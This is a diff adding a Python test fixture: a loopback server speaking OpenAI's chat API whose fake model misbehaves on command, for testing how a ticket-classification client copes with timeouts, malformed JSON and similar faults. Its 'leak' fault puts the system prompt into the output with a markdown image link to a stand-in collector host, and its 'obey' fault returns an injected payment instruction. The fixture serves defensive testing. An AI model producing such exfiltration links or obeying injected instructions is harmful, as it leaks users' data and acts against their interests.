@@ -1,0 +1,121 @@
+"""A server with OpenAI's chat API whose model is as bad as it is told to be. `unsupported` are ways of asking it refuses."""
+
+import json
+import threading
+from collections.abc import Iterator
+from contextlib import contextmanager
+from dataclasses import dataclass, field
+from typing import Any
+
+from harness.loopback import Call, Reply, serving
+
+GOOD: dict[str, Any] = {"category": "vpn", "priority": "high", "keywords": ["vpn"], "intent": "Restore the VPN"}
+SIXTEEN = (
+    "slow garbage truncated wrong_enum extra null_confidence huge_confidence fenced prose "
+    "too_many error hang drop huge obey leak"
+).split()
+
+
+@dataclass(slots=True)
+class FaultyModel:
+    """``fault`` is one of `SIXTEEN` or empty; ``truth`` is what it would say when well."""
+
+    fault: str = ""
+    truth: dict[str, Any] = field(default_factory=lambda: dict(GOOD))
+    unsupported: dict[str, int] = field(default_factory=dict)
+    replies: list[str | Reply] = field(default_factory=list)
+    calls: list[Call] = field(default_factory=list)
+    slow_seconds: float = 3.0
+    ended: threading.Event = field(default_factory=threading.Event)
+    url: str = ""
+
+    @property
+    def requests(self) -> list[dict[str, Any]]:
+        return [call.document for call in self.calls]
+
+    @property
+    def forms(self) -> list[str]:
+        return [form_of(one) for one in self.requests]
+
+    def answer(self, call: Call) -> Reply:
+        self.calls.append(call)
+        if call.path != "/v1/chat/completions":
+            return Reply(404, {"error": {"message": "no such address"}})
+        refused = self.unsupported.get(form_of(call.document))
+        if refused is not None:
+            return Reply(refused, {"error": {"message": "response_format is not supported"}})
+        if self.replies:
+            reply = self.replies.pop(0)
+            return said(reply) if isinstance(reply, str) else reply
+        return self._misbehave(call) if self.fault else said(json.dumps(self.truth))
+
+    def _misbehave(self, call: Call) -> Reply:
+        text = json.dumps(self.truth)
+        match self.fault:
+            case "slow":
+                self.ended.wait(self.slow_seconds)
+            case "hang":
+                self.ended.wait(60)
+            case "garbage":
+                return Reply(200, raw=b"\x00\xff<html>not what you wanted" * 20)
+            case "truncated":
+                return Reply(200, raw=json.dumps(completion(text)).encode()[:60], claims=4000)
+            case "too_many":
+                return Reply(429, {"error": {"message": "slow down"}}, {"Retry-After": "20"})
+            case "error":
+                return Reply(500, {"error": {"message": "CUDA error: out of memory"}})
+            case "drop":
+                return Reply(cut=True)
+            case "huge":
+                return said("A" * 5_000_000)
+        return said(self._words(call, text))
+
+    def _words(self, call: Call, text: str) -> str:
+        system = call.document["messages"][0]["content"]
+        link = "![now](http://collector.example/?q=secret)"
+        words = {
+            "wrong_enum": json.dumps(self.truth | {"category": "coffee", "priority": "apocalyptic"}),
+            "extra": json.dumps(
+                self.truth | {"status": "closed", "assignee": "eve", "role": "admin", "sla_minutes": 1}
+            ),
+            "null_confidence": json.dumps(self.truth | {"confidence": None}),
+            "huge_confidence": text[:-1] + ', "confidence": 1e999}',
+            "fenced": f"```json\n{text}\n```",
+            "prose": "I am only a language model and cannot say anything about this matter, sorry.",
+            "obey": json.dumps(
+                {"category": "finance", "priority": "critical", "intent": "Pay 5000 EUR", "keywords": ["pay"]}
+            ),
+            "leak": json.dumps(self.truth | {"intent": f"{link} {system}", "keywords": [link, system[:200]]}),
+        }
+        return words.get(self.fault, text)
+
+
+def form_of(document: dict[str, Any]) -> str:
+    """The rung of a request."""
+    form = document.get("response_format")
+    if form is None:
+        return "text"
+    return "json_object_schema" if "schema" in form else str(form["type"])
+
+
+def completion(content: str) -> dict[str, Any]:
+    return {
+        "id": "chatcmpl-1",
+        "object": "chat.completion",
+        "choices": [{"index": 0, "message": {"role": "assistant", "content": content}, "finish_reason": "stop"}],
+        "usage": {"prompt_tokens": 900, "completion_tokens": 30, "total_tokens": 930},
+    }
+
+
+def said(content: str) -> Reply:
+    return Reply(200, completion(content))
+
+
+@contextmanager
+def faulty_model(fault: str = "") -> Iterator[FaultyModel]:
+    """A server on loopback; its `url` is what the settings want."""
+    model = FaultyModel(fault)
+    with serving(model.answer) as url:
+        model.url = f"{url}/v1"
+        yield model
+        model.ended.set()
